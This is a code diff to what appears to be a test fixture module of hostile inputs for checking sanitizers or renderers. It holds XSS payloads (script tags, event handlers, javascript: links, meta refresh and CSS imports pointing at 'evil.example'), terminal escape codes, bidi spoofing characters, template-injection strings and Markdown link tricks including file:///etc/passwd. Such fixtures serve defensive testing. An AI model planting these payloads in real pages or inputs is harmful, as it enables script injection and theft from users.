@@ -17,14 +17,18 @@ ELSEWHERE = "https://evil.example"
 # Each as a name, a value, a line, an error, a question.
 MARKUP = (
     f"<script>{RUN}</script>"
-    f'<img src="x" onerror="{RUN}"><svg onload="{RUN}"><iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>'
+    f'<img src="x" onerror="{RUN}"><svg onload="{RUN}">'
+    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>'
     f'<a href="javascript:{RUN}">a</a><form action="{ELSEWHERE}"><button>b</button></form>'
-    f'<style>@import "{ELSEWHERE}/a.css";</style><base href="{ELSEWHERE}"><meta http-equiv="refresh" content="0;url={ELSEWHERE}">'
+    f'<style>@import "{ELSEWHERE}/a.css";</style><base href="{ELSEWHERE}">'
+    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">'
     f'"><b onmouseover="{RUN}" style="position:fixed;inset:0;background:url({ELSEWHERE}/b.png)">'
 )
 TERMINAL = "\x1b[2J\x1b]0;owned\x07\x1b[31m"
 BIDI = "\u202edrowssap\u2066\u200b\u2069\u061c"
 NASTY = f"{MARKUP}{TERMINAL}{BIDI}{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}"
+
+SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
 
 # As Markdown, every way to a link or to a picture.
 MARKDOWN = f"""# Title {NASTY}
@@ -36,7 +40,7 @@ MARKDOWN = f"""# Title {NASTY}
 - [d][r]
 - <javascript:{RUN.replace(" ", "%20")}>
 - ![e]({ELSEWHERE}/e.png "t")
-- ![f](data:image/svg+xml;base64,{base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode()).decode()})
+- ![f](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()})
 - [g](//evil.example/g) [h](vbscript:x) [i](file:///etc/passwd) [j](blob:x)
 
 [r]: javascript:{RUN.replace(" ", "%20")}
@@ -51,8 +55,6 @@ MARKDOWN = f"""# Title {NASTY}
 
 **bold** <details open ontoggle="{RUN}"><summary>s</summary></details>
 """
-
-SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
 
 PROGRAM = """
 import json, os, sys
